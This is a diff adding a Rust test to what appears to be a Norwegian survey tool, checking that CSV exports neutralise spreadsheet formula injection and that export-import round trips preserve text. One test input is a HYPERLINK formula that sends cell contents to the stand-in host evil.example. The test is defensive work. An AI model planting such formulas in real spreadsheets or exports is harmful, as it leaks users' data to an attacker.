@@ -202,3 +202,79 @@ fn unknown_columns_and_missing_rounds_need_create() {
     );
     assert!(!env.ok(&["round", "list"]).contains("2024"));
 }
+
+/// Text typed by staff that a spreadsheet would run as a formula (starting
+/// with =, +, -, @, a tab or a carriage return) is neutralised in every
+/// export, and an import of that export gives back exactly what was typed.
+#[tokio::test]
+async fn formulas_in_answers_are_neutralised_in_exports_and_read_back_exactly() {
+    let env = TestEnv::new();
+    env.open_round();
+    let typed = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"klikk\")",
+        "+47 99 99 99 99",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tinnrykk",
+        "'=allerede sitert",
+        "''+to sitater",
+        "vanlig tekst",
+    ];
+    let mut file = String::from("round,unit,role,kommentar\n");
+    for t in typed {
+        file.push_str(&format!(
+            "2026,Kulturskolen,ansatt,\"{}\"\n",
+            t.replace('"', "\"\"")
+        ));
+    }
+    std::fs::write(env.path("in.csv"), file).unwrap();
+    env.ok(&["import", "in.csv"]);
+    let server = env.spawn_server();
+    let c = client();
+    login_admin(&c, &server).await;
+    let from_web = c
+        .get(server.url("/admin/rounds/2026/export.csv"))
+        .send()
+        .await
+        .unwrap()
+        .bytes()
+        .await
+        .unwrap();
+    for export in [env.ok(&["export"]).into_bytes(), from_web.to_vec()] {
+        for row in parse_csv(&export) {
+            for (column, value) in &row {
+                assert!(
+                    !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{column} starts a formula: {value:?}"
+                );
+            }
+        }
+    }
+    // Import the export into a new database: the same text comes back.
+    env.ok(&["export", "--out", "ut.csv"]);
+    let env2 = TestEnv::new();
+    env2.open_round();
+    std::fs::copy(env.path("ut.csv"), env2.path("ut.csv")).unwrap();
+    env2.ok(&["import", "ut.csv"]);
+    let mut back: Vec<String> = env2
+        .export_rows("2026")
+        .iter()
+        .map(|r| cell(r, "kommentar").to_string())
+        .collect();
+    let mut again: Vec<String> = env
+        .export_rows("2026")
+        .iter()
+        .map(|r| cell(r, "kommentar").to_string())
+        .collect();
+    back.sort();
+    again.sort();
+    assert_eq!(back, again, "export → import → export is exact");
+    // And the report shows what was typed, not the quote.
+    let json = env.ok(&[
+        "report", "--format", "json", "--min-n", "3", "--out", "r.json",
+    ]);
+    let _ = json;
+    let report = std::fs::read_to_string(env.path("r.json")).unwrap();
+    assert!(report.contains("=HYPERLINK"), "{report}");
+    assert!(!report.contains("'=HYPERLINK"), "{report}");
+}
